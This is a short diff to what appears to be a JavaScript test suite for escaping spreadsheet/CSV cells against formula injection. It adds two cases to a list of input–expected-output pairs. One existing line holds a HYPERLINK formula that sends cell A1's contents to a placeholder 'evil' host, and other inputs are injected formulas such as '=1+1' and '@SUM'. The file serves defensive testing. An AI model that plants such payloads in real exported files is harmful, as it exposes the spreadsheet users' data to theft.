@@ -14,6 +14,8 @@ describe('a text in a cell', () => {
     ['\uff1d1', "'\uff1d1"],
     ['João;=HYPERLINK("http://evil/?"&A1)', '"João;\'=HYPERLINK(""http://evil/?""&A1)"'],
     ['x";=1+1', '"x"";\'=1+1"'],
+    ['x;"=1+41;y', '"x;""\'=1+41;y"'],
+    ['""@SUM(1)', '"""""\'@SUM(1)"'],
     ['a\t=1+1', "a\t'=1+1"],
     ['ok\n@SUM(1)', '"ok\n\'@SUM(1)"'],
     ['a; ; \r=1', '"a; ; \r\'=1"'],
